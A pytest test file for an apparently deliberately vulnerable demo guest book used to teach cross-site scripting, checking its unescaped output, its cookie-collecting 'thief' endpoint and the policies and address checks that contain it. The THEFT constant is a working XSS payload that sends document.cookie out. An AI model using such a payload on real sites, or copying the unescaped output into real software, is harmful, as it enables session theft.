"""The guest book, as far as it shows without a browser: what it does, and to whom it does not answer."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import threading

import pytest
import requests

from demo_app import SessionOptions, create_app, serve
from tests.serving.helpers import wait_for_requests

THEFT = """<img src=x onerror="fetch('thief?loot=' + encodeURIComponent(document.cookie))">"""
CONTEXTS = ("X-ProxyContextPath", "X-Forwarded-Context", "X-Forwarded-Prefix")


def make():
    return create_app(SessionOptions(name="mycookie", secret="s"), guest_book=True)


@pytest.fixture
def client():
    return make().test_client()


@pytest.fixture
def book(client):
    """The address of the client's guest book."""
    return client.application.extensions["guest_book"]


@pytest.fixture
def running():
    """The address of a guest book that is served."""
    app = make()
    with serve(app) as server:
        yield server.url + app.extensions["guest_book"]


class TestTheBook:
    def test_it_is_not_there_by_default(self):
        assert "guest_book" not in create_app(SessionOptions(secret="s")).extensions

    def test_it_is_keyword_only(self):
        with pytest.raises(TypeError, match="positional"):
            create_app(SessionOptions(secret="s"), ":memory:", True)

    def test_it_shows_entries_unescaped_and_says_that_it_is_vulnerable(self, client, book):
        response = client.post(book, data={"entry": THEFT})
        assert (response.status_code, response.headers["Location"]) == (303, "./")
        page = client.get(book)
        assert f"<li>{THEFT}</li>" in page.text
        assert "Vulnerable on purpose" in page.text

    def test_the_thief_keeps_what_comes(self, client, book):
        assert client.get(f"{book}thief/loot").json == []
        for loot in ("mycookie=1; _xsrf=2|secret", ""):
            assert client.get(f"{book}thief", query_string={"loot": loot}).status_code == 204
        assert client.get(f"{book}thief/loot").json == ["mycookie=1; _xsrf=…", ""]

    def test_each_app_has_its_own(self, client, book):
        client.post(book, data={"entry": "hello"})
        client.get(f"{book}thief?loot=x")
        other = make()
        assert "hello" not in other.test_client().get(other.extensions["guest_book"]).text
        assert other.test_client().get(f"{other.extensions['guest_book']}thief/loot").json == []


class TestItsAddress:
    def test_it_has_a_part_that_cannot_be_guessed(self, book):
        assert re.fullmatch(r"/guestbook-[\w-]{22}/", book)  # 22 characters of base64: 128 bits
        assert len({make().extensions["guest_book"] for _ in range(10)}) == 10

    @pytest.mark.parametrize("path", ["/guestbook", "/guestbook/", "/guestbook-/", "/thief?loot=x", "/thief/loot"])
    def test_without_it_nothing_is_found(self, client, path):
        assert client.get(path).status_code == client.post(path).status_code == 404

    def test_no_answer_of_the_app_tells_it(self, client, book):
        secret = book.strip("/").removeprefix("guestbook-")
        client.post("/api/login", json={"username": "ada", "password": "lovelace"})
        for path in ("/", "/api/inspect", "/api/me", "/api/notes", "/static/inspector.js", "/nothing", "/guestbook-x/"):
            for method in ("GET", "OPTIONS", "PUT"):
                response = client.open(path, method=method, headers={"X-Inspect": "1"})
                assert secret not in response.text + str(response.headers)

    def test_it_is_told_to_no_other_site(self, client, book):
        assert client.get(book).headers["Referrer-Policy"] == "same-origin"


class TestItsPolicy:
    def test_a_script_in_it_is_kept_in(self, client, book):
        policy = dict(part.split(" ", 1) for part in client.get(book).headers["Content-Security-Policy"].split("; "))
        assert policy == {
            "default-src": "'none'",
            "script-src": "'unsafe-inline'",
            "style-src": "'self'",
            "img-src": "'self' data:",
            "connect-src": "'self'",
            "form-action": "'self'",
            "base-uri": "'none'",
            "frame-ancestors": "'self' http://127.0.0.1:* http://localhost:*",
            "sandbox": "allow-scripts allow-same-origin allow-forms",
        }

    @pytest.mark.parametrize("path", ["/api/peek", "/api/me", "/api/inspect", "/nothing", "/thief", "/thief/loot"])
    def test_every_other_answer_is_no_place_for_it(self, client, book, path):
        path = path if "thief" not in path else book + path.lstrip("/")
        assert client.get(path).headers["Content-Security-Policy"] == "default-src 'none'; sandbox"

    def test_an_answer_of_the_server_itself_is_none_either(self, running):
        answer = requests.get(running + "a" * 70_000)
        assert (answer.status_code, answer.text) == (414, "")
        assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"

    def test_the_inspector_keeps_its_own(self, client):
        assert "script-src 'self'" in client.get("/").headers["Content-Security-Policy"]


@pytest.mark.parametrize("path", ["", "thief?loot=x", "thief/loot"])
class TestThroughAJupyterLab:
    """What jupyter-server-proxy hands on, as measured: the browser's ``Host``, and headers of its own."""

    def refused(self, url, **headers):
        response = requests.get(url, headers={name.replace("_", "-"): value for name, value in headers.items()})
        return response.status_code == 403 and "not shown at the address of a JupyterLab" in response.json()["error"]

    @pytest.mark.parametrize("name", CONTEXTS)
    def test_its_headers_are_seen(self, running, path, name):
        assert self.refused(running + path, **{name: "/proxy/49152"})

    @pytest.mark.parametrize("host", ["127.0.0.1:8888", "localhost:8888", "127.0.0.1", "[::1]:8888", "localhost:99999"])
    def test_the_port_of_another_server_is_seen(self, running, path, host):
        """``/proxy/absolute/…`` adds no header."""
        assert self.refused(running + path, Host=host)

    def test_the_name_of_a_hub_is_seen(self, path, monkeypatch):
        monkeypatch.setenv("JUPYTERHUB_SERVICE_PREFIX", "/user/ada/")
        app = make()
        with serve(app) as server:
            port = server.url.rpartition(":")[2]
            url = server.url + app.extensions["guest_book"] + path
            assert self.refused(url, Host="hub.example")
            assert self.refused(url, Host=f"hub.example:{port}")
            assert self.refused(url, Host="hub.example:port")
            assert requests.get(url).ok  # the lesson itself writes to it and reads it

    def test_in_a_codespace_each_port_has_a_host_of_its_own(self, path, monkeypatch):
        monkeypatch.setenv("CODESPACES", "true")
        app = make()
        with serve(app) as server:
            url = server.url + app.extensions["guest_book"] + path
            assert requests.get(url, headers={"Host": "ada-49152.app.github.dev"}).ok
            assert self.refused(url, X_ProxyContextPath="/proxy/49152")


# What another account sends, and how it ends: after close() Linux no longer says whose connection it was.
STRANGER = """
import os, socket, struct, sys
os.setuid(65534)  # nobody
host, port, path, ending = sys.argv[1:]
mapped = ending == "mapped"  # an IPv6 client
with socket.socket(socket.AF_INET6 if mapped else socket.AF_INET) as connection:
    connection.connect(("::ffff:" + host if mapped else host, int(port)))
    request = f"POST {path} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\nContent-Length: 11\\r\\n"
    request += "Content-Type: application/x-www-form-urlencoded\\r\\n\\r\\nentry=hello"
    connection.sendall(request.encode())
    if ending == "full":  # what is not read yet stands in front of the end
        connection.setblocking(False)
        connection.send(bytes(10_000_000))
    if ending in ("answer", "mapped"):
        print(connection.makefile().read())
    if ending == "half":
        connection.shutdown(socket.SHUT_WR)
        print(connection.makefile().read())
    if ending == "reset":
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
"""


@pytest.mark.skipif(
    not sys.platform.startswith("linux") or os.geteuid() != 0, reason="only Linux tells accounts, and only root has two"
)
@pytest.mark.parametrize("ending", ["answer", "mapped", "half", "close", "full", "reset"])
def test_another_account_cannot_write_to_it_even_if_it_knows_the_address(ending):
    app = make()
    path = app.extensions["guest_book"]
    gone = threading.Event()
    waits = ending in ("answer", "mapped", "half")
    if waits:
        gone.set()
    inner = app.wsgi_app

    def held(environ, start_response):
        """Looks at the request when the stranger has ended, or is waiting for the answer."""
        assert gone.wait(30)
        return inner(environ, start_response)

    app.wsgi_app = held
    with serve(app) as server:
        host, port = server.url.removeprefix("http://").split(":")
        command = [sys.executable, "-c", STRANGER, host, port, path, ending]
        said = subprocess.run(command, capture_output=True, text=True, check=True).stdout
        gone.set()
        assert ("is of another account" in said) == waits
        # Connections are taken in their order: after the first, the stranger's has been.
        assert requests.post(f"{server.url}{path}", data={"entry": "own"}).ok
        wait_for_requests()
        page = requests.get(f"{server.url}{path}").text
    assert "own" in page
    assert "hello" not in page
